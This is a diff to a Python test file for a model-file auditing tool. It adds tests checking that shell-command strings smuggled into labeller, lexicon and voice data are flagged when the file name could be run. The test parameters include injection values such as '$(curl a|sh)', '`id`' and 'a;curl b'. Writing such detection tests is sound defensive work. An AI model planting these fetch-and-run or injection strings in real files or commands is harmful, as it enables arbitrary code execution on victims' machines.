@@ -19,6 +19,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from modelaudit.model.outline import Outline
+from modelaudit.model.structure import UnreadReason
 
 SAMPLES = {**MODELS, **DICTIONARIES, **TABLES, **LANGUAGE_MODELS, **SPEECH}
 FORMATS = (
@@ -321,6 +322,36 @@ def test_changed_count_length_and_number_of_a_labeller_is_reported(old, new, rea
 @given(st.lists(st.binary(max_size=9).filter(lambda text: not any(byte < 32 for byte in text)), min_size=1))
 def test_every_text_of_a_labeller_has_its_length(read_bytes, features):
     data = bytes(build_labeller(*features).data)
-    assert not has_fault(read_bytes(data, "model"))
+    assert not has_fault(read_bytes(data, "model.wap"))
     for end in range(6, len(data)):
-        assert has_fault(read_bytes(data[:end], "model"))
+        assert has_fault(read_bytes(data[:end], "model.wap"))
+
+
+def write_labeller(command: bytes) -> bytes:
+    """Return a model of Wapiti with a label."""
+    return bytes(build_labeller().data).replace(b"4:NOUN,", b"%d:%s," % (len(command), command))
+
+
+def write_lexicon(command: bytes) -> bytes:
+    """Return a lexicon of Zemberek with a lemma; a line ends before each."""
+    item = b"\n" + bytes([len(command)]) + command + b"\x28\x01"
+    return 12 * (b"2" + bytes([len(item)]) + item)
+
+
+@pytest.mark.parametrize("command", [b"$(curl a|sh)", b"`id`", b'system("id")#', b"a;curl b"])
+@pytest.mark.parametrize(("name", "is_open"), [("configure", True), ("model.nu", True), ("model.wap", False)])
+@pytest.mark.parametrize("write", [write_labeller, write_lexicon])
+def test_commands_in_data_of_lines_leave_an_absence_under_a_name_that_may_be_run(
+    read_bytes, write, command: bytes, name: str, is_open: bool
+) -> None:
+    """Each of these names lets a shell or an interpreter run the file, which passes over what it does not know."""
+    assert [reason for _, reason in read_bytes(write(command), name).unread] == [UnreadReason.PROGRAM] * is_open
+    assert not read_bytes(write(b"kitap"), name).unread
+
+
+@pytest.mark.parametrize(("name", "is_open"), [("run", True), ("voice.htsvoice", False)])
+def test_commands_in_the_head_of_a_voice_leave_an_absence_under_a_name_that_may_be_run(
+    read_bytes, name: str, is_open: bool
+) -> None:
+    content = bytes(build_voice().data).replace(b"COMMENT:", b"COMMENT:$(curl a|sh)")
+    assert [reason for _, reason in read_bytes(content, name).unread] == [UnreadReason.PROGRAM] * is_open
